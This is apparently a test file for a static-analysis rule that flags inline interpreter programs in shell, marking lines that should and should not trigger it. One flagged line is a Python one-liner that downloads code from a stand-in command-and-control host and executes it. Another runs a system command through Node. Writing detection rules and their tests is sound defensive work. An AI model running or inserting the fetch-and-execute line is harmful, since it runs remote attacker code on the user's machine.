# ruleid: sh-inline-program
python3 -c 'import urllib.request as u;exec(u.urlopen("https://c2.invalid").read())'
# ruleid: sh-inline-program
perl -e 'use IO::Socket; print 1'
# ruleid: sh-inline-program
node -e "require('child_process').exec('id')"
# ok: sh-inline-program
python3 -c 'import sys; print(sys.version)'
# ok: sh-inline-program
perl -e 'print 1'
# ok: sh-inline-program
node -e 'console.log(process.version)'
# ok: sh-inline-program
python -c "import sysconfig; print(sysconfig.get_path('include'))"
